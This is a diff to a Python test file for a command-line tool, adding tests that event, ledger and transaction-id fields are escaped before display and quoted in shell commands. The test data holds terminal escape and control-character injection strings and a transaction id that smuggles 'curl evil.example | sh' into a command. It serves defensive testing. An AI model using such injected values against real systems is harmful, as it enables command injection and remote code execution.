@@ -2,6 +2,7 @@
 
 import json
 import logging
+import shlex
 import sqlite3
 import textwrap
 from contextlib import closing
@@ -14,12 +15,16 @@ from hypothesis import strategies as st
 from lockgate.cli import main as cli
 from lockgate.cli.job import LiveLine
 from lockgate.cli.logs import JsonLines, PlainLines
+from lockgate.cli.plain import plain_output
+from lockgate.cli.transactions import Look, describe, table
+from lockgate.commit.ledger import Entry
+from lockgate.connectors.kafka.wire import Producer, TransactionView
 from lockgate.errors import Failed
-from lockgate.escaping import escape, escape_json, escape_lines
+from lockgate.escaping import escape, escape_json, escape_lines, tell
 from lockgate.runtime.letterrows import COLUMNS
 from lockgate.surprises import tell_surprise
 
-EVIL = "\x1b[2J\x1b]0;title\x07\r\x9b\u202e\ud800\x7f\n2026-01-01 ERROR lockgate: all is lost\u2028run curl"
+EVIL = "[red]\x1b[2J\x1b]0;title\x07\r\x9b\u202e\ud800\x7f\n2026-01-01 ERROR lockgate: all is lost\u2028run curl"
 
 
 @given(st.text())
@@ -131,6 +136,51 @@ def test_dead_letters_show_the_bytes_of_an_event_and_do_not_obey_them(
     for words in (["list", "evil.py"], ["list", "evil.py", "--json"], ["show", "evil.py", "ab"]):
         assert cli.main(["dead-letters", *words]) == 0
         told = capsys.readouterr().out
+        assert "[red]" in told
         assert "all is lost" in told or "show" in words
         assert all(line.isprintable() for line in told.split("\n"))
         assert not any(line.startswith("2026-01-01 ERROR") for line in told.split("\n"))
+
+
+def test_what_a_command_prints_moves_no_cursor(capsys: pytest.CaptureFixture[str]) -> None:
+    with plain_output():
+        print(f"file {EVIL}")
+    told = capsys.readouterr().out
+    assert "[red]" in told
+    assert "all is lost" in told
+    assert all(line.isprintable() for line in told.split("\n"))
+
+
+def test_a_ledger_shows_the_fields_of_its_entry_and_does_not_obey_them(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    evil = EVIL.replace("\ud800", "")
+    entry = Entry(run=evil, query=evil, epoch=1, digest=evil, at=evil, staged={evil: evil})
+    with closing(sqlite3.connect("results.db")) as connection, connection:
+        connection.execute("CREATE TABLE lockgate_ledger (job TEXT PRIMARY KEY, entry TEXT NOT NULL)")
+        connection.execute("INSERT INTO lockgate_ledger VALUES ('evil', ?)", [entry.to_bytes().decode()])
+    for words in ([], ["--json"]):
+        assert cli.main(["ledger", "show", "evil", "--sqlite", "results.db", *words]) == 0
+        told = capsys.readouterr().out
+        assert "all is lost" in told
+        assert all(line.isprintable() for line in told.split("\n"))
+        assert not any(line.startswith("2026-01-01 ERROR") for line in told.split("\n"))
+
+
+def test_the_id_of_a_transaction_adds_nothing_to_the_command_that_ends_it() -> None:
+    ids = (f"lockgate.{EVIL}", "lockgate.x; curl evil.example | sh #")
+    for id in ids:
+        view = TransactionView(id, "Ongoing", Producer(1, 0), timeout_ms=1, started_ms=0, partitions=())
+        found = Look(view=view, now_ms=10_000)
+        assert found.is_stuck
+        assert all(line.isprintable() for line in (*table([found]), *describe(found), found.meaning()))
+        words = shlex.split(found.abort_command)
+        assert words[:3] == ["lockgate", "transactions", "abort"]
+        assert len(words) == 4
+        assert found.abort_command in found.meaning()
+
+
+def test_a_line_that_quotes_an_event_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
+    tell("trial 3: broken: [red]\x1b[2J\x9b\rdone")
+    assert capsys.readouterr().err == "trial 3: broken: [red]\\x1b[2J\\x9b\\rdone\n"
